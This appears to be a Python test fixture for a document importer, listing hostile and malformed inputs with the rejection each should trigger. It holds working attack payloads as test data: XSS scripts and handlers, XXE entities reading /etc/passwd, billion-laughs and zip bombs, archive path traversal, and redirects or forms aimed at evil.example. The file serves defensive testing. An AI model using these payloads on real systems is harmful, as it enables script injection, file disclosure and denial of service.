"""Documents that mean harm, or are broken in the ways that documents break; each with what has to come of it.

The expectation is a code that refuses the document, or "" where it is read all the same and nothing of the
harm is left. `words` have to be in the story, `never` nowhere in it.
"""

from __future__ import annotations

import struct
from collections.abc import Callable
from dataclasses import dataclass

import makers
from makers import ONE, epub, paragraphs, picture, xhtml, zipped

TEXT = paragraphs(ONE)
SEEN = "ferryman"


@dataclass(frozen=True)
class Hostile:
    """A document: how it is made, what it is called, what has to happen."""

    make: Callable[[], bytes]
    name: str
    code: str = ""
    words: str = SEEN
    never: tuple[str, ...] = ("alert(", "javascript:", "evil.example", "passwd", "onclick", "<script")


def page(inside: str, head: str = "") -> bytes:
    return (
        f"<!DOCTYPE html><html><head><title>T</title>{head}</head><body>{inside}{TEXT}</body></html>".encode()
    )


def html(inside: str, head: str = "", **changes) -> Hostile:
    return Hostile(lambda: page(inside, head), "a.html", **changes)


def book(body: str, **changes) -> Callable[[], bytes]:
    return lambda: epub([("a.xhtml", xhtml(body + TEXT))], metadata="<dc:title>T</dc:title>", **changes)


def with_file(name: str, data: bytes | str) -> Callable[[], bytes]:
    def make() -> bytes:
        return epub([("a.xhtml", xhtml(TEXT))], metadata="<dc:title>T</dc:title>", extra={name: data})

    return make


def replaced(make: Callable[[], bytes], name: str, data: bytes | str) -> Callable[[], bytes]:
    """An archive with one of its files put in another's place."""
    import io
    import zipfile

    def changed() -> bytes:
        with zipfile.ZipFile(io.BytesIO(make())) as archive:
            files: dict[str, bytes | str] = {one: archive.read(one) for one in archive.namelist()}
        return zipped({**files, name: data})

    return changed


def bomb() -> bytes:
    """Sixty megabytes of nothing, and more of it than one page may be."""
    return zipped(
        {
            "mimetype": "application/epub+zip",
            "META-INF/container.xml": CONTAINER,
            "content.opf": opf("a.xhtml"),
            "a.xhtml": b" " * (66 * 2**20),
        }
    )


CONTAINER = '<container xmlns="urn:oasis:names:tc:opendocument:xmlns:container"><rootfiles><rootfile full-path="content.opf"/></rootfiles></container>'
LAUGHS = '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]>'
OUTSIDE = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'


def opf(*pages: str, doctype: str = "") -> str:
    items = "".join(
        f'<item id="i{n}" href="{name}" media-type="application/xhtml+xml"/>' for n, name in enumerate(pages)
    )
    refs = "".join(f'<itemref idref="i{n}"/>' for n in range(len(pages)))
    return f'<?xml version="1.0"?>{doctype}<package xmlns="http://www.idpf.org/2007/opf"><metadata/><manifest>{items}</manifest><spine>{refs}</spine></package>'


def forged_size() -> bytes:
    """An archive whose directory says that a page has four bytes."""
    data = bytearray(makers.generic_epub_named())
    at = data.rindex(b"PK\x01\x02", 0, data.index(b"OEBPS/one.xhtml", data.index(b"PK\x01\x02")))
    data[at + 24 : at + 28] = struct.pack("<I", 4)
    return bytes(data)


def locked() -> bytes:
    data = bytearray(makers.generic_epub_named())
    at = -1
    while (at := data.find(b"PK\x01\x02", at + 1)) >= 0:
        data[at + 8] |= 1
    at = -1
    while (at := data.find(b"PK\x03\x04", at + 1)) >= 0:
        data[at + 6] |= 1
    return bytes(data)


def huge_picture() -> bytes:
    return picture(20_000, 20_000)


def huge_jpeg() -> bytes:
    return (
        b"\xff\xd8\xff\xe0\x00\x04ab\xff\xc0\x00\x11\x08"
        + struct.pack(">HH", 20_000, 20_000)
        + b"\x03"
        + b"\0" * 12
        + b"\xff\xd9"
    )


def inflated_png() -> bytes:
    """A small file that says it is small, and unpacks to half a gigabyte of pixels when somebody believes it."""
    return picture(8, 8)[:-12] + b"\0\0\0\0IEND\xaeB`\x82"


ENCRYPTED = '<encryption xmlns="urn:oasis:names:tc:opendocument:xmlns:container"><EncryptedData xmlns="http://www.w3.org/2001/04/xmlenc#"><EncryptionMethod Algorithm="{}"/></EncryptedData></encryption>'
DEEP = 700

HOSTILE: dict[str, Hostile] = {
    # nesting
    "divs, 700 deep": html("<div>" * DEEP + "deep" + "</div>" * DEEP, words="deep"),
    "divs, 1900 deep": html("<div>" * 1900 + "deep" + "</div>" * 1900, words="deep"),
    "divs, 20,000 deep": html("<div>" * 20_000 + "deep" + "</div>" * 20_000, code="R031"),
    "quotes, 700 deep": html("<blockquote>" * DEEP + "deep" + "</blockquote>" * DEEP, words="deep"),
    "lists, 700 deep": html("<ul><li>" * DEEP + "deep" + "</li></ul>" * DEEP, words="deep"),
    "tables, 300 deep": html("<table><tr><td>" * 300 + "deep" + "</td></tr></table>" * 300, words="deep"),
    "spans, 1900 deep": html("<p>" + "<span>" * 1900 + "deep" + "</span>" * 1900 + "</p>", words="deep"),
    "stress, 1900 deep": html("<p>" + "<b><i>" * 900 + "deep" + "</i></b>" * 900 + "</p>", words="deep"),
    "tags that nobody closes": html("<b><i><u><div><p><font>" * 200, words=SEEN),
    "tags closed that nobody opened": html("</div></p></b></table>" * 5_000),
    "XML, 5,000 deep": Hostile(replaced(book(""), "content.opf", "<a>" * 5_000 + "</a>" * 5_000), "a.epub", "R031"),
    "RTF groups, 100,000 deep": Hostile(lambda: b"{\\rtf1 " + b"{" * 100_000 + b"x" + b"}" * 100_000, "a.rtf", "R031"),
    "JSON, 200,000 deep": Hostile(lambda: b'{"title":1,"mature":0,"parts":' + b"[" * 200_000, "a.json", "R036"),
    "Markdown, 40,000 brackets": Hostile(lambda: b"[" * 40_000 + b"\n\nThe ferryman said nothing at all to that.\n", "a.md", "R031"),
    "Markdown quotes, 3,000 deep": Hostile(lambda: b">" * 3_000 + b" deep\n\nThe ferryman said nothing at all.\n", "a.md", "R031"),
    "Markdown lists, 500 deep": Hostile(lambda: b"".join(b"  " * n + b"- x\n" for n in range(500)) + b"\nThe ferryman said nothing.\n", "a.md", "R031"),
    # scripts and handlers
    "a script": html("<script>alert(1)</script>"),
    "a script that is not closed in its string": html('<script>var a = "</scr" + "ipt>"; alert(1)</script>'),
    "handlers": html('<p onclick="alert(1)" onload=alert(2)>Words</p><body onload="alert(3)">'),
    "a link that runs": html('<p><a href="javascript:alert(1)">Words</a></p>'),
    "a link that runs, in disguise": html('<p><a href=" java&#10;script:alert(1)">Words</a></p>'),
    "a link to data": html('<p><a href="data:text/html,<script>alert(1)</script>">Words</a></p>'),
    "SVG with a script": html('<svg onload="alert(1)"><script>alert(2)</script><text>x</text></svg>'),
    "MathML that changes its mind": html("<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>"),
    "a style sheet that runs": html("", '<style>p { background: url("javascript:alert(1)") } @import "http://evil.example/a.css";</style>'),
    "a template": html("<template><script>alert(1)</script></template><noscript><p onclick=alert(1)>x</p></noscript>"),
    "a comment with a script": html("<!-- <script>alert(1)</script> --><!--[if IE]><script>alert(1)</script><![endif]-->"),
    "CDATA": html("<![CDATA[<script>alert(1)</script>]]>", never=("<script",)),
    "a Jinja template": html("<p>{{ 7*7 }}{% for x in range(9**9) %}{% endfor %}</p>"),
    "a refresh": html("", '<meta http-equiv="refresh" content="0; url=http://evil.example/">'),
    "a base": html('<p><img src="x.png"></p>', '<base href="http://evil.example/">'),
    "a form": html('<form action="http://evil.example/"><input name=a value=b><button>Send</button></form>'),
    # resources
    "a picture on the web": html('<p><img src="http://evil.example/pixel.png" alt=""></p>'),
    "a picture on this machine": html('<p><img src="file:///etc/passwd"></p>'),
    "a picture above the folder": html('<p><img src="../../../../etc/passwd"></p>'),
    "a picture by scheme only": html('<p><img src="//evil.example/pixel.png"><img src="\\\\evil.example\\a.png"></p>'),
    "a frame": html('<iframe src="http://evil.example/"></iframe><object data="file:///etc/passwd"></object><embed src="http://evil.example/a.swf">'),
    "a video": html('<video src="http://evil.example/a.mp4" poster="http://evil.example/b.png">No video</video>'),
    "a picture in the text that is none": html(f'<p><img src="data:image/png;base64,{"A" * 4000}"></p>'),
    "a picture in the text that is a page": html('<p><img src="data:text/html,<script>alert(1)</script>"></p>'),
    # entities
    "entities in a page": Hostile(lambda: LAUGHS.encode() + page("<p>&c;</p>"), "a.html"),
    "an outside entity in a page": Hostile(lambda: b'<?xml version="1.0"?>' + OUTSIDE.encode() + page("<p>&a;</p>"), "a.xhtml"),
    "billion laughs in a package": Hostile(replaced(book(""), "content.opf", opf("a.xhtml", doctype=LAUGHS)), "a.epub", "R032"),
    "an outside entity in a package": Hostile(replaced(book(""), "content.opf", opf("a.xhtml", doctype=OUTSIDE)), "a.epub", "R032"),
    "an outside entity in a container": Hostile(replaced(book(""), "META-INF/container.xml", OUTSIDE + CONTAINER), "a.epub", "R032"),
    "entities in a Word document": Hostile(lambda: makers.docx(extra={"word/document.xml": LAUGHS + "<a>&c;</a>"}), "a.docx", "R032"),
    "entities in an OpenDocument": Hostile(lambda: makers.odt(extra={"content.xml": OUTSIDE + "<a>&a;</a>"}), "a.odt", "R032"),
    "characters that XML cannot hold": html("<p>a&#0;b&#x1F;c&#xFFFE;d&#xD800;e&#11;</p>"),
    # archives
    "an archive bomb": Hostile(bomb, "a.epub", "R034"),
    "40,000 entries": Hostile(lambda: zipped({"mimetype": "application/epub+zip", **{f"{n}": b"" for n in range(40_000)}}), "a.epub", "R034"),
    "40,000 pages": Hostile(lambda: zipped({"mimetype": "application/epub+zip", "META-INF/container.xml": CONTAINER, "content.opf": opf(*(f"{n}.xhtml" for n in range(40_000)))}), "a.epub", "R034"),
    "paths that leave the archive": Hostile(with_file("../../../../tmp/evil.example.png", picture()), "a.epub"),
    "a package that leads out": Hostile(replaced(book(""), "content.opf", opf("../../../etc/passwd", "/etc/passwd", "a.xhtml")), "a.epub"),
    "a picture that leads out": Hostile(book('<p><img src="../../../etc/passwd"/><img src="/etc/passwd"/></p>'), "a.epub"),
    "a page that is its own picture": Hostile(book('<p><img src="a.xhtml"/></p>'), "a.epub"),
    "a directory that lies about sizes": Hostile(forged_size, "a.epub", "R033"),
    "a package without pages": Hostile(replaced(book(""), "content.opf", opf()), "a.epub", "R033"),
    "no package": Hostile(lambda: zipped({"mimetype": "application/epub+zip", "a.xhtml": xhtml(TEXT)}), "a.epub", "R033"),
    "a package that is no XML": Hostile(replaced(book(""), "content.opf", "<package><"), "a.epub", "R030"),
    "a page listed a thousand times": Hostile(replaced(book(""), "content.opf", opf(*["a.xhtml"] * 1000)), "a.epub"),
    "a zip in a zip": Hostile(lambda: zipped({"a.epub": zipped({"b.txt": b"Words.", "c.txt": b"Words."})}), "a.zip", "R036"),
    "a zip in a zip in a zip": Hostile(lambda: zipped({"a.txt": zipped({"b.txt": zipped({"c.txt": b"Words."})})}), "a.zip", "R036"),
    "a picture called a text in a zip": Hostile(lambda: zipped({"a.txt": picture()}), "a.zip", "R003"),
    "a way out of a zip": Hostile(lambda: zipped({"../../a.txt": b"Words."}), "a.zip", "R033"),
    "a tar archive": Hostile(lambda: b"a.txt".ljust(257, b"\0") + b"ustar\0" + b"\0" * 250, "a.tar", "R036"),
    "a zip of many things": Hostile(lambda: zipped({"a.exe": b"MZ", "b.html": page(""), "c.html": page("")}), "a.zip", "R036"),
    # locks
    "DRM: a rights file": Hostile(with_file("META-INF/rights.xml", "<rights/>"), "a.epub", "R035"),
    "DRM: pages encrypted": Hostile(with_file("META-INF/encryption.xml", ENCRYPTED.format("http://www.w3.org/2001/04/xmlenc#aes256-cbc")), "a.epub", "R035"),
    "fonts scrambled, which does no harm": Hostile(with_file("META-INF/encryption.xml", ENCRYPTED.format("http://www.idpf.org/2008/embedding")), "a.epub"),
    "a ZIP under a password": Hostile(locked, "a.epub", "R035"),
    # broken
    "an EPUB cut off": Hostile(lambda: makers.generic_epub_named()[:900], "a.epub", "R033"),
    "a Word document cut off": Hostile(lambda: makers.docx()[:700], "a.docx", "R033"),
    "a PDF cut off": Hostile(lambda: makers.pdf()[:300], "a.pdf", "R033"),
    "a PDF of noise": Hostile(lambda: b"%PDF-1.7\n" + bytes(range(256)) * 40, "a.pdf", "R033"),
    "a PDF without text": Hostile(lambda: makers.pdf().replace(b"Tj", b"  "), "a.pdf", "R039"),
    "a page cut off": Hostile(lambda: page("")[:-200], "a.html"),
    "a page of tags": Hostile(lambda: b"<html><body>" + b"<p></p><br>" * 50_000 + b"</body></html>", "a.html", "R004"),
    "an empty page": Hostile(lambda: b"<html><body></body></html>", "a.html", "R004"),
    "a Word document without words": Hostile(lambda: makers.docx(extra={"word/document.xml": "<w:document/>"}), "a.docx", "R030"),
    "an OpenDocument without its text": Hostile(lambda: zipped({"mimetype": "application/vnd.oasis.opendocument.text"}), "a.odt", "R033"),
    "a web archive without a page": Hostile(lambda: b"MIME-Version: 1.0\nContent-Type: multipart/related; boundary=x\n\n--x\nContent-Type: image/png\n\nx\n--x--\n", "a.mht", "R033"),
    "JSON that is no story": Hostile(lambda: b'{"a": [1, 2, 3]}', "a.json", "R036"),
    "a story's parts without their text": Hostile(lambda: b'{"title": "x", "mature": false, "parts": [{"title": "y"}]}', "a.json", "R036"),
    # lies
    "an EPUB called a text": Hostile(makers.generic_epub_named, "a.txt"),
    "a page called an EPUB": Hostile(lambda: page(""), "a.epub"),
    "a program called a page": Hostile(lambda: b"\x7fELF" + b"\0" * 500, "a.html", "R003"),
    "a picture called a Word document": Hostile(picture, "a.docx", "R003"),
    "a Word document called an EPUB": Hostile(makers.docx, "a.epub"),
    # pictures
    "a picture of 400 megapixels": Hostile(book('<p><img src="big.png"/></p>', extra={"big.png": huge_picture()}), "a.epub"),
    "a JPEG of 400 megapixels": Hostile(book('<p><img src="big.png"/></p>', extra={"big.png": huge_jpeg()}), "a.epub"),
    "a picture that is no picture": Hostile(book('<p><img src="big.png"/></p>', extra={"big.png": b"not a picture"}), "a.epub"),
    "a picture cut off": Hostile(book('<p><img src="big.png"/></p>', extra={"big.png": picture()[:20]}), "a.epub"),
    "an SVG that runs": Hostile(book('<p><img src="big.png"/></p>', extra={"big.png": "<svg onload='alert(1)'/>"}), "a.epub"),
    # words
    "a word of a million letters": Hostile(lambda: page(f"<p>{'a' * 1_000_000}</p>"), "a.html"),
    "directions turned around": html("<p>\u202eevil\u202c and \u2066more</p>"),
    "a title that runs": Hostile(lambda: page("", "").replace(b"<title>T", b"<title>&lt;script&gt;x&lt;/script&gt;"), "a.html", never=("<script src",)),
    "a table of a million columns": html('<table><tr><td colspan="1000000" rowspan="99999999999">a</td><td>b</td></tr><tr><td>c</td></tr></table>'),
    "a list from a number without end": html(f'<ol start="{"9" * 400}"><li>a</li></ol>'),
    "front matter with anchors": Hostile(lambda: b"---\na: &x [1,1,1,1]\nb: &y [*x,*x,*x]\ntitle: *y\n---\n\nThe ferryman said nothing at all to that.\n", "a.md"),
}  # fmt: skip
